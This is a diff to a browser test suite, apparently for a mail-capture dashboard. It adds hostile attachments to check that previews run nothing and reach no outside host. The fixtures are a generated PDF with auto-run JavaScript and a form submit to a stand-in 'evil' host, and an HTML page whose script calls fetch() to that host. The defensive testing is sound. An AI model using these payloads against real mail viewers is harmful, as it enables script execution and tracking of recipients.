@@ -44,14 +44,30 @@ describe.skipIf(!hasBrowser)('hostile mail', () => {
           Filename: 'a.pdf',
           Type: 'application/pdf',
         },
+        {
+          Content: Buffer.from(documentThatActs(evil)).toString('base64'),
+          Filename: 'letter.pdf',
+          Type: 'application/pdf',
+        },
+        {
+          Content: Buffer.from(`<script>fetch('${evil}/page');opener.document.title='ran'</script>`).toString(
+            'base64',
+          ),
+          Filename: 'page.html',
+          Type: 'text/html',
+        },
       ],
     });
   });
+  const opened = async () => {
+    const watched = await openPage(browser);
+    await watched.page.goto(server.server.localUrl);
+    await watched.page.getByRole('list', { name: 'Captured mail' }).getByRole('link').first().click();
+    return watched;
+  };
 
   it('runs nothing and asks for nothing, in no view', async () => {
-    const { page, requests } = await openPage(browser);
-    await page.goto(server.server.localUrl);
-    await page.getByRole('list', { name: 'Captured mail' }).getByRole('link').first().click();
+    const { page, requests } = await opened();
     const frame = page.frameLocator('iframe');
     await frame.getByText('Still readable').waitFor();
     await frame.getByText('run', { exact: true }).click({ force: true });
@@ -61,8 +77,12 @@ describe.skipIf(!hasBrowser)('hostile mail', () => {
       await page.getByRole('tabpanel', { name: view }).waitFor();
       if (view !== 'Attachments') continue;
       await page.getByRole('img', { name: 'picture.svg' }).scrollIntoViewIfNeeded();
-      await page.getByRole('button', { name: 'Preview' }).click();
+      const file = (name: string) => page.getByRole('listitem').filter({ hasText: name });
+      await file('a.pdf').getByRole('button', { name: 'Preview' }).click();
       await page.getByText('not a PDF document').waitFor();
+      await file('letter.pdf').getByRole('button', { name: 'Preview' }).click();
+      await page.locator('iframe[title="Preview of letter.pdf"][src^="blob:"]').waitFor();
+      expect(await file('page.html').getByRole('button').count()).toBe(0);
     }
     await page.getByText('Pictures from elsewhere are blocked').waitFor();
     expect(await page.title()).not.toBe('ran');
@@ -72,10 +92,23 @@ describe.skipIf(!hasBrowser)('hostile mail', () => {
     expect(asked).toEqual([]);
   });
 
+  it('hands a page in its files over as a file, and never shows it', async () => {
+    const { page } = await opened();
+    await page.getByRole('tab', { name: 'Attachments' }).click();
+    const link = page.getByRole('listitem').filter({ hasText: 'page.html' }).getByRole('link');
+    const address = new URL((await link.getAttribute('href')) ?? '', server.server.localUrl).href;
+    const download = page.waitForEvent('download');
+    await link.click();
+    expect((await download).suggestedFilename()).toBe('page.html');
+    // Opened by itself it is refused, as everything is that does not come from the dashboard.
+    const answer = await page.goto(address);
+    expect(answer?.headers()['content-type']).toContain('json');
+    expect(asked).toEqual([]);
+    expect(await page.title()).not.toBe('ran');
+  });
+
   it('loads pictures, and nothing else, once they are allowed', async () => {
-    const { page } = await openPage(browser);
-    await page.goto(server.server.localUrl);
-    await page.getByRole('list', { name: 'Captured mail' }).getByRole('link').first().click();
+    const { page } = await opened();
     // Asked for while the click is still being done.
     const pixel = page.waitForRequest(`${evil}/pixel`);
     await page.getByRole('button', { name: 'Show once' }).click();
@@ -88,3 +121,21 @@ describe.skipIf(!hasBrowser)('hostile mail', () => {
     await page.getByText('Pictures from elsewhere are blocked').waitFor();
   });
 });
+
+/** A PDF document whose script and link want to be opened with it. */
+function documentThatActs(evil: string): string {
+  const objects = [
+    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("EVIL/form"\\);) >> /AA << /WC 4 0 R >> >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> /Annots [5 0 R] >>',
+    '<< /S /URI /URI (EVIL/opened) >>',
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A 4 0 R >>',
+  ].map((text, i) => `${i + 1} 0 obj\n${text.replace('EVIL', evil)}\nendobj\n`);
+  let at = '%PDF-1.7\n'.length;
+  const places = objects.map((text) => {
+    const here = at;
+    at += text.length;
+    return `${String(here).padStart(10, '0')} 00000 n \n`;
+  });
+  return `%PDF-1.7\n${objects.join('')}xref\n0 6\n0000000000 65535 f \n${places.join('')}trailer << /Size 6 /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`;
+}
